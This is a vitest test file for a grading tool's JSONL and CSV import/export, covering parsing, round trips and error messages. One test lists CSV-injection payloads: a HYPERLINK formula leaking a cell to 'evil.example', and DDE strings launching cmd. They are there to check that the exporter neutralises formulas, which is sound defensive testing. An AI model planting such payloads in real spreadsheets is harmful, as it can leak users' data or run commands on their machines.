import { describe, expect, it } from 'vitest';
import type { GradeRecord } from '../store/types.js';
import { formatGrades, formatOfFile, parseGrades } from './io.js';

const rec = (extra: Partial<GradeRecord> = {}): GradeRecord => ({
  id: 1,
  runId: 'r',
  i: 3,
  j: 0,
  rule: 'polite',
  grade: 'fail',
  grader: 'reviewer-1',
  gradedAt: '2026-03-01T10:00:00.000Z',
  ...extra,
});

describe('grades files', () => {
  it('reads the issue example line as JSONL (i, j 0-based)', () => {
    const lines = parseGrades('{"input": 3, "sample": 0, "rule": "polite", "grade": "fail", "grader": "reviewer-1"}\n', 'g.jsonl', 'jsonl');
    expect(lines).toEqual([{ line: 1, grade: { i: 3, j: 0, rule: 'polite', grade: 'fail', grader: 'reviewer-1' } }]);
  });

  it('round-trips every field through JSONL and CSV, quoting what CSV needs', () => {
    const grades = [
      rec(),
      rec({ id: 2, i: 0, j: 4, rule: 'says "hi", politely', grade: 'pass', grader: 'Ada, L.', probability: 0.125, design: 'stratified by the judge, seed 7' }),
    ];
    for (const f of ['jsonl', 'csv'] as const) {
      const back = parseGrades(formatGrades(grades, f), `x.${f}`, f).map((l) => l.grade);
      expect(back, f).toEqual(grades.map(({ id: _id, runId: _run, ...g }) => g));
    }
    expect(formatGrades(grades, 'csv').split('\n')[0]).toBe('input,sample,rule,grade,grader,gradedAt,probability,design');
  });

  it('writes no cell a spreadsheet would run as a formula (OWASP CSV injection), and reads its own export back exactly (issue 30)', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "'=already quoted",
      "''=twice",
    ];
    const grades = hostile.map((text, n) => rec({ id: n + 1, rule: text, grader: text, design: text, probability: 0.5 }));
    const csv = formatGrades(grades, 'csv');
    for (const row of csv.trim().split('\n').slice(1)) {
      // Every text cell that a spreadsheet would read as a formula starts with a quote mark inside its quotes.
      const cells = row.match(/"(?:[^"]|"")*"|[^,]+|(?<=,)(?=,)/g)!;
      for (const cell of cells) {
        const text = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
        expect(text, row).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const back = parseGrades(csv, 'x.csv', 'csv').map((l) => l.grade);
    expect(back).toEqual(grades.map(({ id: _id, runId: _run, ...g }) => g));
    // JSONL is not a spreadsheet format: written as given.
    expect(formatGrades(grades, 'jsonl')).toContain('"grader":"=HYPERLINK');
  });

  it('names the file, line and field of the first bad line', () => {
    const jsonl = (s: string) => () => parseGrades(s, 'g.jsonl', 'jsonl');
    expect(jsonl('\n{"input": 0, "sample": 0, "rule": "a", "grade": "fail", "grader": "x"}\n{"input": -1}')).toThrow(
      /^g\.jsonl: line 3: field "input": expected a whole number ≥ 0/,
    );
    expect(jsonl('{"input": 0, "sample": 1.5, "rule": "a", "grade": "fail", "grader": "x"}')).toThrow(/line 1: field "sample"/);
    expect(jsonl('{"input": 0, "sample": 0, "rule": "a", "grade": "bad", "grader": "x"}')).toThrow(/field "grade": expected "pass" or "fail", found "bad"/);
    expect(jsonl('{"input": 0, "sample": 0, "rule": "a", "grade": "PASS", "grader": "x", "note": 1}')).toThrow(/field "note": unknown field/);
    expect(jsonl('{"input": 0, "sample": 0, "rule": "a", "grade": "pass"}')).toThrow(/field "grader": expected text, found nothing/);
    expect(jsonl('{"input": 0, "sample": 0, "rule": "a", "grade": "pass", "grader": "x", "probability": 2}')).toThrow(
      /field "probability": expected a number in \[1e-9, 1\]/,
    );
    expect(jsonl('not json')).toThrow(/line 1: expected one JSON object per line/);
    expect(jsonl('[1]')).toThrow(/line 1: expected a JSON object/);
    expect(jsonl('\n\n')).toThrow(/g\.jsonl: expected at least one grade, found none/);
    expect(() => parseGrades('input,sample,rule,grade,grader\n0,0,a,pass,x\n1,zero,a,pass,x\n', 'g.csv', 'csv')).toThrow(/^g\.csv: line 3: field "sample"/);
    expect(() => parseGrades('input,sample,rule,grade,grader\n0,0,a,pass\n', 'g.csv', 'csv')).toThrow(/g\.csv: line 2: expected a CSV row matching the header/);
  });

  it('fills a missing grader from the importer, asking only when a line needs it', () => {
    let asked = 0;
    const who = () => (asked++, 'importer');
    const lines = parseGrades('input,sample,rule,grade,grader\n0,0,a,PASS,\n1,0,a,fail,ada\n', 'g.csv', 'csv', who);
    expect(lines.map((l) => [l.line, l.grade.grader, l.grade.grade])).toEqual([
      [2, 'importer', 'pass'],
      [3, 'ada', 'fail'],
    ]);
    expect(asked).toBe(1);
    parseGrades('{"input": 0, "sample": 0, "rule": "a", "grade": "pass", "grader": "x"}', 'g.jsonl', 'jsonl', who);
    expect(asked).toBe(1);
  });

  it('tells the format from the name', () => {
    expect([formatOfFile('a.JSONL'), formatOfFile('a.ndjson'), formatOfFile('a.csv'), formatOfFile('a.txt')]).toEqual(['jsonl', 'jsonl', 'csv', undefined]);
  });
});
